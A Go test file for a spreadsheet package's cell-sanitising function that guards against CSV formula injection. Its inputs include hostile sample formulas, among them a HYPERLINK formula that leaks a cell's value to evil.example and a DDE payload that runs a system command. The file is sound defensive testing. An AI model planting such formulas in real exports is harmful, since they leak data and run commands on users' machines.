package spreadsheet

import (
	"bytes"
	"encoding/csv"
	"testing"
)

func TestCell(t *testing.T) {
	for in, want := range map[string]string{
		// Formulas of issue 15, and every character OWASP names.
		`=HYPERLINK("http://evil.example/?leak="&A1,"Tallinn")`: `'=HYPERLINK("http://evil.example/?leak="&A1,"Tallinn")`,
		"=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
		"+1+cmd":             "'+1+cmd",
		"-2+3":               "'-2+3",
		"@SUM(A1:A2)":        "'@SUM(A1:A2)",
		"\t=1":               "'\t=1",
		"\r=1":               "'\r=1",
		"-":                  "'-",
		"- ":                 "'- ",
		// Numbers stay numbers, negative ones too, with a point or a comma.
		"-12.5": "-12.5", "-3,4": "-3,4", "+7": "+7", "-0": "-0", "-.5": "-.5", "1e-7": "1e-7", "-2E+10": "-2E+10",
		"33.333333333333336": "33.333333333333336",
		// Everything else as it was.
		"": "", "Tallinn": "Tallinn", "Tõrva vald": "Tõrva vald", "0784": "0784", "I.4": "I.4", "a=b": "a=b",
		"not_achieved": "not_achieved", "low_coverage;forecast": "low_coverage;forecast", " =1": " =1",
	} {
		if got := Cell(in); got != want {
			t.Errorf("Cell(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestWriterQuotesAndNeutralises: the writer's CSV reads back as the neutralised
// cells, whatever separators, quotes and line breaks they hold.
func TestWriterQuotesAndNeutralises(t *testing.T) {
	records := [][]string{{"name", "value"}, {`=HYPERLINK("x","y")`, "-1.5"}, {"a,b\n\"c\"", "@x;y"}}
	var buf bytes.Buffer
	if err := NewWriter(&buf).WriteAll(records); err != nil {
		t.Fatal(err)
	}
	back, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{{"name", "value"}, {`'=HYPERLINK("x","y")`, "-1.5"}, {"a,b\n\"c\"", "'@x;y"}}
	for i := range want {
		for j := range want[i] {
			if back[i][j] != want[i][j] {
				t.Errorf("cell %d,%d: %q, want %q", i, j, back[i][j], want[i][j])
			}
		}
	}
	var semi bytes.Buffer
	w := NewWriter(&semi)
	w.Comma = ';'
	w.WriteAll([][]string{{"-3,4", "=1;2"}})
	if semi.String() != "-3,4;\"'=1;2\"\n" {
		t.Errorf("with ';': %q", semi.String())
	}
}
